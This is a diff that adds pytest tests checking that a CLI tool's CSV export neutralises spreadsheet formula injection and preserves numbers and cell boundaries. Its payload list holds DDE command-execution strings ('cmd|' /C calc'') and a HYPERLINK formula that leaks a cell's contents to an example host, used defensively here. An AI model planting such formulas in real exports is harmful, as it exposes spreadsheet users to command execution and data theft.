@@ -143,3 +143,53 @@ def test_rows_and_json_lines_exclude_each_other(altcraft, order: tuple[str, ...]
     ran = altcraft(*REFRESH, *order, script=[STARTED])
     assert ran.code == 2
     assert "one of --json and --csv" in ran.out + ran.err
+
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://example.com?x="&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "  =1+1",
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "\n=1+1",
+]
+
+
+def cells_as_a_spreadsheet_reads_them(text: str, separator: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
+
+
+@pytest.mark.parametrize("separator", [",", ";", "\t"])
+@pytest.mark.parametrize(
+    "formula", [*FORMULAS, *(f"email{separator}{FORMULAS[0]}" for separator in (";", "\t", "\r", "\n"))]
+)
+def test_no_text_of_the_platform_is_a_formula(altcraft, formula: str, separator: str) -> None:
+    odd = {"channel": formula, "status": {"all": -3, formula: formula, "note": {"why": formula}}}
+    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
+    assert ran.code == 0
+    for cell in cells_as_a_spreadsheet_reads_them(ran.out, separator):
+        begins = cell.lstrip(' \t\r\n\ufeff\0"')[:1]
+        assert cell == "-3" or begins not in ("=", "+", "-", "@", "\uff1d"), cell
+    (row,) = rows_of(ran.out)
+    assert row["all"] == "-3"
+
+
+@pytest.mark.parametrize("number", [-3, -0.25, 1e-7, "-3", "+7", "-1.5e+10"])
+def test_a_number_stays_a_number_also_as_a_text(altcraft, number: object) -> None:
+    odd = {"channel": "email", "status": {"change": number}}
+    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
+    (row,) = rows_of(ran.out)
+    assert float(row["change"]) == float(str(number))
+
+
+@pytest.mark.parametrize("text", ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "a\x00b"])
+def test_a_text_stays_in_its_cell(altcraft, text: str) -> None:
+    odd = {"channel": text, "status": {"all": 1}}
+    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
+    assert ran.out.count("\n") == 2 + text.count("\n")
+    (row,) = csv.DictReader(io.StringIO(ran.out, newline=""))
+    assert (row["channel"], row["all"]) == (text, "1")
